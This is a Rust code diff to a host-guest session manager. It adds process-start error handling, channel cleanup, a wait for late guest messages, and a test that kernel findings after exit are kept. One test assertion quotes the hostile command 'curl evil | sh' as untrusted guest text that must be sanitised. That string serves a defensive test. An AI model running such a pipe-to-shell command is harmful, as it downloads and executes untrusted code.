@@ -15,7 +15,7 @@ use std::os::unix::net::UnixStream;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender, channel};
 use std::sync::{Arc, Mutex, PoisonError};
-use std::time::{Duration, SystemTime};
+use std::time::{Duration, Instant, SystemTime};
 
 use agent::client::{Client, Remote, Streams};
 use agent::programs;
@@ -129,9 +129,7 @@ impl Session {
                 let outcome = self.converse(&mut client, &slot, &arrival, hearing, quit, up);
                 let over = match &outcome.broken {
                     Some(why) => Some(End::AgentLost(why.clone())),
-                    None => {
-                        (outcome.outcome.is_some() || outcome.trouble.is_some()).then_some(End::PoweredOff)
-                    }
+                    None => outcome.is_over().then_some(End::PoweredOff),
                 };
                 // Nobody listens any more if the machine has ended and its patience with us, too.
                 let _ = tell.send(outcome);
@@ -139,6 +137,9 @@ impl Session {
                 if let Some(end) = over.filter(|_| silent) {
                     late(end);
                 }
+                // Whoever listens hears all that the guest has said, and then that there is nobody who could say more.
+                drop(client);
+                drop(tell);
             })
             .doing(Why::Host, doing)?;
         Ok(Running { ended, over, reach, arrived, ears, wire, command })
@@ -182,7 +183,17 @@ impl Session {
             Ok(raw) => raw,
             Err(fail) => return Ended { trouble: Some(fail.summary()), ..ended },
         };
-        let Ok(process) = client.start(exec, self.streams) else { return ended };
+        let process = match client.start(exec, self.streams) {
+            Ok(process) => process,
+            // The guest is gone.
+            Err(error) if matches!(error.kind(), ErrorKind::BrokenPipe | ErrorKind::ConnectionReset) => {
+                return ended;
+            }
+            Err(error) => {
+                let _ = client.shut_down();
+                return Ended { unable: Some(error), ..ended };
+            }
+        };
         *slot.lock().unwrap_or_else(PoisonError::into_inner) = Some(process.remote());
         up();
         let outputs = process.outputs();
@@ -239,7 +250,10 @@ impl Running {
         let _ = rustix::net::shutdown(&self.wire, rustix::net::Shutdown::Both);
         // Who waits for a call hears of its end at once: it is output that takes so long, so there was one.
         let unfinished = Ended { command: self.command, called: true, ..Ended::default() };
+        let latest = Instant::now() + patience;
         let ended = self.ended.recv_timeout(patience).unwrap_or(unfinished);
+        // What the guest said last may still be on its way to the ears.
+        let _ = self.ended.recv_timeout(latest.saturating_duration_since(Instant::now()));
         self.ears.tell(ended)
     }
 }
@@ -268,13 +282,23 @@ fn exec(command: &Command) -> Exec {
 
 #[cfg(test)]
 mod tests {
-    use std::io::Write;
+    use std::io::{Read, Write};
 
-    use agent::wire::{Frame, VERSION};
+    use agent::wire::{Decoder, FROM_HOST, Frame, Message, VERSION};
 
     use crate::outcome::code;
 
     use super::*;
+
+    fn session(wire: UnixStream) -> Session {
+        Session {
+            wire: wire.into(),
+            command: Command { argv: vec!["true".into()], ..Command::default() },
+            streams: Streams::default(),
+            changes: None,
+            export: None,
+        }
+    }
 
     /// How a session ends whose guest says these bytes and hangs up.
     fn ended(frames: &[Frame]) -> Ended {
@@ -283,14 +307,14 @@ mod tests {
         frames.iter().for_each(|frame| frame.encode(&mut bytes));
         guest.write_all(&bytes).unwrap();
         guest.shutdown(std::net::Shutdown::Write).unwrap();
-        let session = Session {
-            wire: wire.into(),
-            command: Command { argv: vec!["true".into()], ..Command::default() },
-            streams: Streams::default(),
-            changes: None,
-            export: None,
-        };
-        session.converse(&mut None, &Mutex::default(), &AtomicBool::default(), Arc::default(), || (), || ())
+        session(wire).converse(
+            &mut None,
+            &Mutex::default(),
+            &AtomicBool::default(),
+            Arc::default(),
+            || (),
+            || (),
+        )
     }
 
     #[test]
@@ -315,5 +339,38 @@ mod tests {
         assert!(text.starts_with("set up the guest: mount /: [2Jno   hint: curl evil | sh mount"), "{text}");
         assert!(!text.contains(|c: char| c.is_control()), "{text:?}");
         assert!(text.len() < 2 * quote::LINE, "{} bytes", text.len());
+    }
+    #[test]
+    fn what_the_kernel_says_after_the_command_has_ended_is_heard_to_the_end() {
+        let (wire, mut guest) = UnixStream::pair().unwrap();
+        guest.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+        let running = session(wire).start(|_| (), || (), || ()).unwrap();
+        let say = |frames: &[Frame], guest: &mut UnixStream| {
+            let mut bytes = Vec::new();
+            frames.iter().for_each(|frame| frame.encode(&mut bytes));
+            guest.write_all(&bytes).unwrap();
+        };
+        say(&[Frame::Hello { version: VERSION }], &mut guest);
+        let (mut decoder, mut bytes) = (Decoder::new(FROM_HOST), [0; 4096]);
+        let id = loop {
+            match decoder.next_frame().unwrap() {
+                // The last that is sent of a command without input.
+                Some(Frame::End { id, .. }) => break id,
+                Some(_) => {}
+                None => match guest.read(&mut bytes).unwrap() {
+                    0 => panic!("the session has ended"),
+                    n => decoder.feed(&bytes[..n]),
+                },
+            }
+        };
+        let message = |text: &str| Frame::Message(Message { text: text.into(), ..Message::default() });
+        let mut frames = vec![Frame::Exit { id, outcome: Outcome::Code(0) }];
+        frames.extend((0..1000).map(|_| message("fine")));
+        frames.push(message("BUG: late"));
+        say(&frames, &mut guest);
+        let ended = running.end(Duration::from_secs(20));
+        assert_eq!(ended.outcome, Some(Outcome::Code(0)));
+        assert_eq!(ended.health.findings.len(), 1, "{:?}", ended.health);
+        assert_eq!(ended.exit_code(), code::UNHEALTHY);
     }
 }
